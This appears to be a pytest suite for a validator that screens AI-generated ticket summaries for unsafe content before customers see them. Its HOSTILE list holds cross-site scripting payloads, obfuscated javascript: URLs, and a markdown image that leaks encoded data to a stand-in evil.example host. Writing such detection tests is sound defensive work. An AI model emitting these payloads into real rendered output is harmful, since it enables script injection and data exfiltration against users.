"""What may be shown to a customer: a corpus of hostile outputs, each of which must be caught, and
of ordinary ones, none of which may be; the same check in validation, the gate and intake."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from batch_ai.validation.gate import run_gate
from batch_ai.validation.records import OutputValidator
from batch_ai.validation.safety import is_unsafe, unsafe_content
from batch_ai.workloads import load_workload

#: Each reached a published table under the old one-regex check, or is a close relative.
HOSTILE = [
    "<script/src=//evil.example/x.js>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "Summary done <img src=x onerror=alert(1)",  # unclosed at the end of the text
    "<a href='javascript:alert(1)'",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\u200bscript:alert(1)",  # a zero-width space inside the scheme
    "javascript&#58;alert(1)",
    "javascript&colon;alert(1)",
    "JaVaScRiPt:alert(1)",
    "\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1)",  # full-width letters
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "Open data:image/svg+xml,<svg onload=alert(1)>",
    "![x](https://evil.example/collect?d=c2VjcmV0)",
    "See ![logo](logo.png) above",
    "[reset your password](https://evil.example/reset)",
    "[docs][1]\n\n[1]: https://evil.example/",
    "<https://evil.example/phish>",
    "&lt;svg/onload=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<!-- a comment hides text -->",
    "<iframe src=//evil.example>",
    "<style>body{display:none}</style>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    'x" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "if a<b then c",  # `<b then c` is a tag to a browser
    "</textarea><script>alert(1)</script>",
]

#: Ordinary outputs the check must leave alone.
ORDINARY = [
    "The customer was charged twice and asked for a refund.",
    "Ich habe die Rechnung für November doppelt bezahlt.",
    "a < b and c > d",
    "I <3 the new dashboard",
    "Missing data: the October invoice has the old VAT number.",
    "Data: 5 rows were exported before the timeout.",
    "The sync error says 'conflict 409' every few minutes.",
    "Use the [settings] page to change the e-mail address.",
    "Price went from 5 & 6 euros to 7 euros.",
    "Tom & Jerry's order, item #3 (approx. $5).",
    "Reply [1]: yes, please close the ticket.",
    "The customer said: javascript errors appear in the console.",
    "Onboarding = done; online banking works again.",
    "See https://docs.example.com/reset for the steps.",
    "Path C:\\Users\\anna\\export.csv could not be opened.",
    "Contact: anna@example.com, +44 20 7946 0958.",
    "Ratio 1<2 holds; x>=3.",
    "Customer wrote &lt;3 at the end.",
    "Status: resolved → closed",
    "",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_hostile_text_is_caught(text):
    assert is_unsafe(text), f"not caught: {text!r}"


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_passes(text):
    assert is_unsafe(text) is None


def test_allowed_hosts_may_be_linked_but_images_never():
    assert is_unsafe("[help](https://docs.example.com/x)", ["docs.example.com"]) is None
    assert is_unsafe("[help](https://evil.example/x)", ["docs.example.com"])
    assert is_unsafe("![x](https://docs.example.com/pixel.png)", ["docs.example.com"])


def test_every_string_at_any_depth_is_checked_and_named():
    output = {
        "summary": "fine",
        "action_items": ["ok", "<img src=x onerror=alert(1)>"],
        "details": {"notes": [{"text": "javascript&#58;alert(1)"}]},
        "<b>key</b>": "x",
    }
    found = dict(unsafe_content(output))
    assert set(found) == {"action_items[1]", "details.notes[0].text", "<b>key</b>"}
    assert "javascript: URL" in found["details.notes[0].text"]


@pytest.fixture(scope="module")
def tickets():
    return load_workload("ticket_summaries")


GOOD = {
    "ticket_id": "T-1",
    "summary": "The customer was charged twice.",
    "category": "billing",
    "sentiment": "negative",
    "language": "en",
    "action_items": ["Refund the second charge"],
}


@pytest.mark.parametrize("text", HOSTILE[:12])
def test_validation_rejects_unsafe_text_in_nested_fields(tickets, text):
    verdict = OutputValidator.for_workload(tickets).validate(json.dumps({**GOOD, "action_items": ["ok", text]}), "T-1")
    assert not verdict.ok and any(e.startswith("action_items[1]: contains") for e in verdict.errors), verdict.errors


def test_the_gate_uses_the_same_check_over_nested_fields(tickets):
    rows = [
        dict(GOOD),
        {**GOOD, "ticket_id": "T-2", "action_items": ["![x](https://evil.example/c?d=1)"]},
        {**GOOD, "ticket_id": "T-3", "summary": "Done <svg/onload=alert(1)"},
    ]
    frame = pd.DataFrame(rows, columns=["ticket_id", *tickets.spec.sink.columns])
    verdict = run_gate(tickets, frame, 3, 0)
    failed = {c["column"]: c for c in verdict.failures()}
    assert set(failed) == {"unsafe_content"} and failed["unsafe_content"]["unexpected_count"] == 2
    assert any("markdown image" in e for e in failed["unsafe_content"]["examples"])
    assert run_gate(tickets, frame.iloc[:1], 1, 0).success


@pytest.mark.parametrize(
    "policy, ok, review", [("review", True, True), ("invalid", False, False), ("ignore", True, False)]
)
def test_an_output_naming_another_records_id_goes_to_review(tickets, policy, ok, review):
    rules = tickets.spec.validation.model_copy(update={"foreign_ids": policy})
    validator = OutputValidator(tickets.output_schema, rules, tickets.spec.source.id_regex())
    injected = {**GOOD, "summary": "As asked in the ticket, the answer of T-2 is copied here."}
    verdict = validator.validate(json.dumps(injected), "T-1")
    assert verdict.ok is ok and bool(verdict.review) is review
    if review:
        assert "summary: mentions 'T-2'" in verdict.review
    # its own id, and ids inside longer words, are not another record's
    plain = validator.validate(json.dumps({**GOOD, "summary": "Ticket T-1 about a T-shirt, part XT-2000x."}), "T-1")
    assert plain.ok and plain.review is None
